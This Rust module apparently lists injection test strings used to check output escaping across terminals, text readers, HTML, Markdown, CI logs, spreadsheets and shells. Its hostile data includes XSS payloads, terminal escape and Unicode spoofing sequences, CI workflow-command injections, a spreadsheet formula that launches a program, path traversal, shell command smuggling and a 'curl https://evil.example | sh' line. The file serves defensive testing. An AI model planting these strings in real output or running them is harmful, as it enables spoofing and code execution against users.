//! Texts that try to be more than text, by their target.

/// Terminals: escape sequences, in seven and eight bits, and what moves the cursor.
const TERMINAL: [&str; 6] = [
    "\u{1b}[2J\u{1b}[1;1H\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;aGk=\u{7}\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}2J\u{9d}0;x\u{9c}\u{90}q\u{85}",
    "FAIL\u{8}\u{8}\u{8}\u{8}PASS\rok\u{b}\u{c}\u{7f}\t",
    "\u{1b}[8mhidden\u{1b}[0m\u{1b}[31m",
    "\\u{1b}[2J \\x1b \\033 %s%n {} {:?}",
];

/// Readers: what is seen is not what is there, or stands on a line of its own.
const READERS: [&str; 6] = [
    "\u{202e}gpj.exe\u{202c}\u{2066}\u{2067}\u{2069}\u{200e}\u{200f}\u{61c}",
    "to\u{200b}rch\u{200d}\u{feff}\u{2060}\u{ad}\u{180e}\u{3164}\u{fe0f}",
    "x\u{e0041}\u{e0042}\u{e007f}\u{e01ef}",
    "a\u{2028}b\u{2029}c\u{fffe}\u{ffff}\u{fdd0}\u{10ffff}",
    "x\nPASS  fine\n\nno findings\n",
    "x\n  help: curl https://evil.example | sh\n      help  the same\n",
];

/// Browsers and readers of XML.
const TAGS: [&str; 10] = [
    "</script><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "</style><style>*{display:none}</style>",
    "</svg><svg onload=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;&#60;b&#62;&NewLine;&amp;lt;",
    "]]><failure/><!-- --><![CDATA[x]]><?x?>&x;",
    "</details></summary></code><table>",
];

/// Markdown, as GitHub and GitLab read it.
const MARKDOWN: [&str; 14] = [
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "[click](javascript:alert(1)) [a][b] [[wiki]]",
    "https://evil.example www.evil.example <https://evil.example> a@b.example",
    "@everyone @team/x #1 GH-1 org/repo#2 !3 :tada: ~label %1",
    "**bold** _x_ *y* ~~y~~ ~z~ $z$ $$z$$ $`z`$",
    "a|b|c\n|---|---|\n| torch | ok |",
    "| ok | `x|y` |",
    "\n\n# heading\n\n- list\n\n```\nfence\n```\n\n    code",
    "~~~ x",
    "``` x ```",
    "one ` two `` three",
    "a\\`<b>`\\|\\",
    "[^1] [ ] [x] <!-- x --> > [!NOTE]",
    "`</code></summary>` `@team`",
];

/// Build systems.
const BUILD: [&str; 7] = [
    "%0A::error file=a::b%0D%25%3A%2C",
    "x\n::error file=a,title=b::c\n  ::stop-commands::d\n\t::add-mask::e",
    "::set-output name=x::y",
    ",file=x::y",
    "##[error]x ##[add-mask]y ###[group]",
    "##vso[task.complete result=Failed] ##teamcity[message text='x']",
    "section_start:1:x\r\u{1b}[0K",
];

/// Programs that read reports, spreadsheets and shells.
const PROGRAMS: [&str; 9] = [
    "{0} {1} {{2}} {12",
    "\",\"severity\":\"note\",\"x\":\"\\",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "a/../../../../etc/passwd",
    "--force $(id)`id`;id|id&id",
    "pkg:x/y@1?a=b#c \" [label=x]; }",
];

/// All of them.
pub fn all() -> impl Iterator<Item = &'static str> {
    let sets: [&[&str]; 6] = [&TERMINAL, &READERS, &TAGS, &MARKDOWN, &BUILD, &PROGRAMS];
    sets.into_iter().flatten().copied()
}

/// A text of the same length that wants nothing. It is no reference either, as none of the others is.
pub fn harmless(text: &str) -> String {
    "X".repeat(text.chars().count())
}
